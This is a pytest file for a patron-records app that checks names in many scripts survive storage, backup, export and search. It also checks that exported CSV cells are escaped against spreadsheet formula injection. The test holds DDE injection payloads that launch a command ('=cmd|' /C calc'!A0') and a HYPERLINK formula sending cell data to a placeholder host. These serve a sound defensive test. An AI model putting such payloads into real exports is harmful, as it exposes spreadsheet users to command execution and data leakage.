"""Promises 29, 36 and 37: any name goes in, is found, goes out, and comes back the same."""

from __future__ import annotations

import csv
import io
import random
import time
from functools import cache
from pathlib import Path

import pytest

from deskmate.domain.cells import escape_cell, unescape_cell
from deskmate.domain.inbox import InboxFilter
from deskmate.domain.patrons import Patron
from deskmate.domain.text import clean
from deskmate.services import backups, exports, feedback, inbox, recall, rosters
from deskmate.services.library import Library, open_library
from deskmate.store import patrons
from tests.conftest import NOON
from tests.promises.plugin import Figure
from tests.shared import naughty

_LETTERS = (
    *(
        "abcdefghijklmnopqrstuvwxyz",
        "áéíóúñüçåøæœßłđžšřěőűğışț",
        "абвгдежзийклмнопрстуфхцчшщъыьэюя",
    ),
    *("αβγδεζηθικλμνξοπρστυφχψως", "אבגדהוזחטיכלמנסעפצקרשת", "ابتثجحخدذرزسشصضطظعغفقكلمنهوي"),
    *(
        "अआइईउकखगघचजटडतदनपबमयरलवशसह",
        "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗",
        "김이박최정강조윤장임한오서신권황안송류전",
    ),
    *(
        "กขคงจฉชซญฎฏฐณดตถทธนบปผ",
        "あいうえおかきくけこさしすせそ",
        "ሀለሐመሠረሰሸቀበተ",
        "ႠႡႢႣႤႥႦ",
        "𝒜𝓑𝔠👩‍🚀🐇",
    ),
)
_MARKS = (
    "'",
    "’",
    "-",
    " ",
    ".",
    ", ",
    " \u200d",
    "\u200c",
    "\u0301",
    '"',
    "/",
    "ʻ",
    "·",
    "(",
    ") ",
)
_LEADS = ("=", "+", "-", "@", "\t", "\r", "'", "''", "＝", "#", "%", "&", "*", "~", "0", "007")
COUNT = 10_000


@cache
def made_up(count: int = COUNT, seed: int = 20261124) -> tuple[str, ...]:
    """Names of every script, with marks between and what spreadsheets obey in front."""
    rng = random.Random(seed)
    made: dict[str, None] = {}
    while len(made) < count:
        letters = rng.choice(_LETTERS)
        words = [
            "".join(rng.choices(letters, k=rng.randint(1, 8))) for _ in range(rng.randint(1, 3))
        ]
        name = rng.choice(_MARKS).join(words)
        if rng.random() < 0.1:
            name = rng.choice(_LEADS) + name
        if rng.random() < 0.5:
            name = name.title()
        if clean(name):
            made[clean(name)] = None
    return tuple(made)


def hostile() -> list[str]:
    """The 515 strings as a store may have them; some are nothing but blanks."""
    return [clean(text) for text in naughty() if clean(text)]


def filled(library: Library, names: list[str]) -> None:
    people = [
        Patron(external_id=f"S{number}", given=name, family=clean(name[::-1]) if number % 2 else "")
        for number, name in enumerate(names)
    ]
    with library.store.writing() as unit:
        unit.record(patrons.add_many(people, session=unit.session, now=NOON))


def held(library: Library) -> list[tuple[str, str, str]]:
    with library.store.reading() as session:
        return [
            (one.external_id, one.given, one.family) for one in patrons.everyone(session=session)
        ]


@pytest.mark.promise(29, 37)
def test_names_come_back_from_the_store_its_backup_and_an_export(
    library: Library, tmp_path: Path
) -> None:
    assert len(naughty()) == 515
    names = [*hostile(), *made_up()]
    filled(library, names)
    before = held(library)
    assert [given for _, given, _ in before] == names

    copy = open_library(backups.back_up_before(library, "import"), lambda: NOON)
    assert held(copy) == before
    copy.close()

    table = tmp_path / "out.csv"
    assert exports.export_patrons(library, table) == len(names)
    other = open_library(tmp_path / "other.db", lambda: NOON)
    roster = rosters.read(other, [table])
    report = rosters.import_roster(other, rosters.plan_import(other, roster))
    assert (report.added, len(report.refused)) == (len(names), 0)
    assert sorted(held(other)) == sorted(before)
    again = rosters.plan_import(other, roster)
    assert {str(item.outcome) for item in again.rows} == {"same"}
    other.close()


@pytest.mark.promise(29)
def test_names_are_found(library: Library) -> None:
    names = [*hostile(), *made_up()[:150]]
    filled(library, names)
    for name in names:
        # What has no letter and no digit in any script names nobody: "(╯°□°)╯" is no word.
        if any(letter.isalnum() for letter in name):
            found = [line.patron.given for line in recall.find(library, name, recall.MOST).people]
            # "1" is in a great many of these.
            assert name in found or len(found) >= 40, name


@pytest.fixture
def town(library: Library) -> Library:
    """Words of all kinds to look in."""
    filled(library, list(made_up()[:1_000]))
    for text in hostile()[::5]:
        feedback.add(library, text)
    return library


@pytest.mark.promise(36)
def test_search_takes_anything(town: Library, figure: Figure) -> None:
    slow: list[tuple[float, str]] = []
    for text in naughty():
        began = time.perf_counter()
        recall.find(town, text)
        took = time.perf_counter() - began
        slow.append((took, text))
        inbox.inbox(town, InboxFilter(text=text, tag=text, owner=text))
        inbox.similar(town, text)
    # A busy machine stalls now and then; what is slow by itself is slow twice.
    worst = [text for took, text in sorted(slow, reverse=True)[:5] if took > 0.1]
    for text in worst:
        began = time.perf_counter()
        recall.find(town, text)
        assert time.perf_counter() - began < 0.1, text
    times = sorted(took for took, _ in slow)
    figure(
        f"{len(slow)} of {len(slow)} looked for in notes, names and suggestions; a search "
        f"{times[len(times) // 2] * 1000:.1f} ms in the median, {times[-1] * 1000:.0f} at the most"
    )


_PAYLOADS = (
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'x'!A0"),
    *('=HYPERLINK("http://x.example/?"&A1,"click")', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"),
)


@pytest.mark.promise(37)
def test_an_export_is_safe_in_a_spreadsheet() -> None:
    leads = [text for text in naughty() if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len(leads) >= 20
    table = exports.csv_text(["x"], [[text] for text in (*leads, *_PAYLOADS)])
    cells = [row[0] for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""))][
        1:
    ]
    harmless = {"-122.42", "+1 555", *(text for text in leads if escape_cell(text) == text)}
    for text, cell in zip((*leads, *_PAYLOADS), cells, strict=True):
        assert unescape_cell(cell) == text
        assert cell.startswith("'") or text in harmless, text
    # What is left alone is a number or a phone: no letter in it can name a function or a cell.
    assert not any(letter.isalpha() for text in harmless for letter in text)
    assert escape_cell("-122.42") == "-122.42"
    assert escape_cell("+1 555") == "+1 555"
